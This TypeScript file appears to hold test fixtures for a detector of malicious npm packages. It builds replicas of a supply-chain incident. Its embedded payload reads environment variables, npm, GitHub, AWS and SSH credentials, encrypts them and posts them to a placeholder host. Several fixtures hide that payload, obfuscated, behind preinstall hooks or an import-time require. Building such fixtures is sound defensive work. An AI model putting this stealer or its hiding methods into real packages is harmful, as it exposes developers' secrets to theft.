import { bundle } from '../bulk';
import { casesOf, type Facts } from '../case';
import { oneLine, renamedLocals, stringArray, xorCompiled } from '../disguise/javascript';
import { npm } from '../packages';

const blob = (host: string) => String.raw`
const home = process.env.HOME || process.env.USERPROFILE;
const read = (name) => Bun.file(home + name).text().catch(() => '');
(async () => {
  const loot = {
    env: process.env,
    npm: await read('/.npmrc'),
    gh: await read('/.config/gh/hosts.yml'),
    aws: await read('/.aws/credentials'),
    ssh: await read('/.ssh/id_ed25519'),
  };
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const body = await crypto.subtle.encrypt({ name: 'AES-GCM', iv: iv }, key, new TextEncoder().encode(JSON.stringify(loot)));
  await fetch('https://${host}/api/v2/events', { method: 'POST', headers: { 'X-Id': Buffer.from(iv).toString('hex') }, body: body });
})().catch(() => {});
`;

/** The same for Node, which has no `Bun`. */
const inNode = (host: string) =>
  blob(host).replace(
    "Bun.file(home + name).text().catch(() => '')",
    "require('fs/promises').readFile(home + name, 'utf8').catch(() => '')",
  );

const FACTS: Facts = {
  now: '2026-05-19T03:00:00Z',
  publishedAt: '2026-05-19T01:39:00Z',
  firstPublishedAt: '2018-02-01T00:00:00Z',
  previousPublishedAt: '2023-05-30T00:00:00Z',
  publisher: 'maintainer-token',
  previousPublisher: 'maintainer',
};
const ABOUT = 'A canvas for tests.';
const HOST = 't-m-kosche.invalid';

export const jestCanvasMock = casesOf({
  id: 'jest-canvas-mock',
  incident: 'jest-canvas-mock',
  kind: 'install-hook',
  seen: 'a new preinstall hook calls another runtime on a new obfuscated file of 500 kB',
  replica: {
    sample: npm('canvas-stub', '2.5.3', () => ({
      about: ABOUT,
      manifest: { scripts: { preinstall: 'bun run index.bundle.js' } },
      files: {
        'index.bundle.js': `${oneLine(bundle('canvas', 490_000))}${stringArray(blob(HOST), 'canvas', true)}\n`,
      },
    })),
    previous: npm('canvas-stub', '2.5.2', { about: ABOUT }),
    facts: FACTS,
  },
  renamed: npm('size-sensor-lite', '1.0.4', () => ({
    about: 'Tells when an element changes its size.',
    manifest: { scripts: { preinstall: 'bunx --bun ./lib/sensor.min.js || true' } },
    files: {
      'lib/sensor.min.js': `${oneLine(bundle('sensor', 400_000))}${oneLine(renamedLocals(blob('sensor-api.invalid'), 'sensor'))}\n`,
    },
  })),
  reObfuscated: npm('canvas-stub', '2.5.4', () => ({
    about: ABOUT,
    manifest: { scripts: { preinstall: 'deno run -A index.bundle.js' } },
    files: {
      'index.bundle.js': `${oneLine(bundle('canvas', 490_000))}${xorCompiled(blob(HOST), 'mockkey')}\n`,
    },
  })),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package loads a new obfuscated file of 500 kB that sends keys and the environment',
    sample: npm('canvas-stub', '2.5.5', () => ({
      about: ABOUT,
      index: (honest) => `${honest}\nrequire('./index.bundle.js');\n`,
      files: {
        'index.bundle.js': `${oneLine(bundle('canvas', 490_000))}${stringArray(inNode(HOST), 'canvas')}\n`,
      },
    })),
  },
});
